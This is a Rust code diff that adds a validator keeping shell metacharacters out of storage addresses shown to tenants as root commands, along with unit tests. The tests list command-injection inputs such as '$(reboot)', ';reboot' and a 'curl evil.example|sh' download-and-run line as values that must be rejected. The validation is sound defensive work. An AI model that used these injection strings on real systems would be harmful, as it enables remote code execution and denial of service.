@@ -53,6 +53,31 @@ fn text(what: &str, text: &str, most: usize) -> Judged {
     }
 }
 
+/// What people are told to type, as root: where, and nothing that a shell takes for more than a word.
+fn address(said: &str) -> Judged {
+    text("an address", said, TEXT_MAX)?;
+    let plain = |c: char| c.is_alphanumeric() || "-._:/[]%+=,?@~".contains(c);
+    let is_word = |word: &str| !word.is_empty() && !word.starts_with('-') && word.chars().all(plain);
+    let fits = match said.strip_prefix("nvme connect ") {
+        Some(rest) => match rest.split(' ').collect::<Vec<_>>().as_slice() {
+            ["-t", "tcp", "-a", at, "-n", name] => [at, name].into_iter().all(|word| is_word(word)),
+            ["-t", "tcp", "-a", at, "-s", port, "-n", name] => {
+                [at, port, name].into_iter().all(|word| is_word(word))
+            }
+            _ => false,
+        },
+        // A path may have spaces.
+        None if said.starts_with("nbd+unix://") => said.split(' ').all(is_word),
+        None => is_word(said),
+    };
+    match fits {
+        true => Ok(()),
+        false => {
+            Err(format!("the address {said:?} is none: it has characters that a shell takes for its own"))
+        }
+    }
+}
+
 /// What people are shown as it is, in a log or a terminal: lines, and nothing that moves a cursor.
 fn prose(what: &str, text: &str) -> Judged {
     let printed = |c: char| !c.is_control() || matches!(c, '\n' | '\t');
@@ -123,7 +148,7 @@ pub fn hear_line(machine: &mut Machine, session: u64, line: &[u8]) -> Result<(),
 pub(crate) fn register(said: &Register) -> Judged {
     name("the node", &said.name)?;
     count("addresses", said.addresses.len(), ADDRESSES_MAX)?;
-    said.addresses.iter().chain(&said.link).try_for_each(|address| text("an address", address, TEXT_MAX))?;
+    said.addresses.iter().chain(&said.link).try_for_each(|said| address(said))?;
     count("pools", said.pools.len(), POOLS_MAX)?;
     said.pools.iter().try_for_each(pool)?;
     once("the pool", said.pools.iter().map(|pool| &pool.name))?;
@@ -364,6 +389,36 @@ pub(crate) mod tests {
         assert!(said(&done(&"x".repeat(LONG_TEXT_MAX + 1))).is_err());
     }
 
+    /// They are shown to tenants as commands to type.
+    #[test]
+    fn an_address_is_a_word_for_every_shell() {
+        for good in [
+            "nbd://h:1/%",
+            "nbds://[2001:db8::1]:10809/%",
+            "nbd+unix:///%?socket=/run/a b/nbd.sock",
+            "iscsi://10.0.0.5:3260/iqn.2026-11.local.henge:%/0",
+            "nvme connect -t tcp -a 10.0.0.5 -n nqn.2026-11.local.henge:%",
+            "nvme connect -t tcp -a fe80::1%eth0 -s 4421 -n nqn.2026-11.local.henge:%",
+        ] {
+            assert_eq!(address(good), Ok(()));
+        }
+        for bad in [
+            "",
+            "nbd://$(reboot)/%",
+            "nbd://h:1/%;reboot",
+            "nbd://h:1/% -x",
+            "nbd://h:1/`reboot`",
+            "nbd+unix:///%?socket=/run/a'b",
+            "nbd+unix:///% -x",
+            "nvme connect -t tcp -a 10.0.0.5 -n nqn:%; curl evil.example|sh",
+            "nvme connect -t tcp -a 10.0.0.5 -n nqn:% --config /tmp/x",
+            "nvme connect -t tcp -a -o -n nqn:%",
+            "nvme connect -t tcp -a 10.0.0.5 -n nqn:%\u{202e}",
+        ] {
+            assert!(address(bad).is_err(), "{bad:?} is taken");
+        }
+    }
+
     #[test]
     fn a_node_has_no_more_than_the_store_takes_of_one() {
         let mut said = sound();
@@ -380,7 +435,7 @@ pub(crate) mod tests {
     fn what_no_storage_is_is_refused_and_named() {
         assert_eq!(register(&sound()), Ok(()));
         type Spoil = fn(&mut Register);
-        let spoiled: [(Spoil, &str); 14] = [
+        let spoiled: [(Spoil, &str); 15] = [
             (|r| r.name = "../n".into(), "no name"),
             (|r| r.pools[0].capacity = 1 << 63, "exbibyte"),
             (|r| r.pools[0].copies = 0, "copies"),
@@ -395,6 +450,7 @@ pub(crate) mod tests {
             (|r| drop(r.disks[0].contract.insert("rate".into(), "9999999999/s".into())), "rate"),
             (|r| r.addresses = vec!["\x1b[2J".into()], "printed"),
             (|r| r.addresses = vec![String::new(); 65], "addresses"),
+            (|r| r.link = Some("h:2;reboot".into()), "a shell"),
         ];
         for (i, (spoil, says)) in spoiled.into_iter().enumerate() {
             let mut said = sound();
